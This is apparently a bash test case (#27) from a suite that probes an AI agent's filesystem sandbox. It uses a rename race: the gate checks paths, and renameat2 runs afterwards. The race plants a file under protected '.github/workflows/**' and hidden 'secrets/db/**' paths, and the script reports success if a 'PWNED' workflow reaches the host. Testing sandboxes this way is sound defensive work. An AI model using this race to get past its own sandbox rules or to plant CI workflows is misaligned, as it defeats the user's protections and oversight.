#!/bin/bash
# 27: the gate checks a rename by path, then opens both parent directories,
# walks the moved directory (to refuse moving anything into or out of a
# rule), and only then calls renameat2 on the parents' descriptors. Two
# renames the sandbox's kernel runs at once: A moves a big directory
# "src/workflows" (holding evil.yml) into the empty "stage"; while the gate
# walks it, B renames "stage" to ".github" (allowed: stage is still empty,
# and ".github" itself is in no rule). A's renameat2 then puts workflows
# into the directory now named .github: .github/workflows/evil.yml is
# planted although ".github/workflows/**" is protected (the user protects
# CI workflows that do not exist yet; a hide rule with a directory part
# works the same). The 3,000 filler files only make the walk last; the
# agent can make them itself (the host makes them here, for time).
# Defended: nothing appears under .github/workflows or secrets/db on the host.
SB=atk27
PROTECT='".github/workflows/**"'
HIDE='"secrets/db/**"'
PRE_SETUP='for k in 1 2; do mkdir -p src/filler$k; (cd src/filler$k && seq 1 ${N:-3000} | sed "s/^/f/" | xargs touch); done; echo "/src/filler*/" >> .gitignore'
. "$(dirname "$0")/lib.sh"
mkrepo; up
ax sh -c 'cd /workspace || exit 9
  mkdir -p .github; mkdir .github/workflows 2>/dev/null && echo "direct mkdir was allowed"; rmdir .github
  k=0
  for pair in "workflows .github" "db secrets"; do
    set -- $pair; k=$((k+1))
    for t in 1 2 3 4 5; do
      rm -rf stage; mkdir -p stage "src/$1"; echo "on: push # PWNED" > "src/$1/evil.yml"
      mv src/filler$k "src/$1/filler" || exit 8
      mv "src/$1" "stage/$1" 2>/dev/null & A=$!
      sleep 0.05; mv -T stage "$2" 2>/dev/null; wait $A
      # (a hidden target cannot be seen: gone from both places is planted)
      [ -d "$2/$1" ] || { [ -d "$2" ] && [ ! -e "stage/$1" ] && [ ! -e "src/$1" ]; } && { echo "planted $2/$1 (try $t)"; break; }
      [ -d "stage/$1" ] && mv "stage/$1/filler" src/filler$k && rm -rf "stage/$1"
      [ -d "src/$1/filler" ] && mv "src/$1/filler" src/filler$k && rm -rf "src/$1"
      [ -d "$2" ] && [ -z "$(ls -A "$2" 2>/dev/null)" ] && rmdir "$2"
    done
  done; true' 2>&1 | sed 's/^/  inside: /'
R=0
for f in .github/workflows/evil.yml secrets/db/evil.yml; do
  grep -q PWNED "$WS/$f" 2>/dev/null && { echo "planted $f on the host"; R=1; }
done
[ $R = 1 ] && succeeded
defended
